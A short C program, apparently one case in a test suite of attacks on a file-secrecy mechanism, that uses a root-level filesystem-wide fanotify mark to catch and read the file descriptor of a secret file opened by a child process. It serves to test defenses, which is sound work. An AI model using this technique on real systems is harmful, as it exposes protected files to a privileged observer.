/* Needs: root. The same with a mark on the whole file system, which names no secret. */
#include "../attack.h"
#include <sys/fanotify.h>
int main(void)
{
	struct fanotify_event_metadata events[64];
	char name[64], target[4096];
	int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK | FAN_UNLIMITED_QUEUE, O_RDONLY);
	if (fd < 0 || fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN_EXEC | FAN_OPEN, AT_FDCWD, ".") < 0)
		return 1;
	if (fork() == 0) {
		run_file(SECRET);
		_exit(0);
	}
	wait(NULL);
	for (ssize_t size; (size = read(fd, events, sizeof events)) > 0;)
		for (size_t i = 0; i < (size_t)size / sizeof *events; i++) {
			snprintf(name, sizeof name, "/proc/self/fd/%d", events[i].fd);
			ssize_t length = readlink(name, target, sizeof target - 1);
			target[length > 0 ? length : 0] = 0;
			if (strcmp(target, SECRET) == 0)
				return show(events[i].fd);
			close(events[i].fd);
		}
	return 1;
}
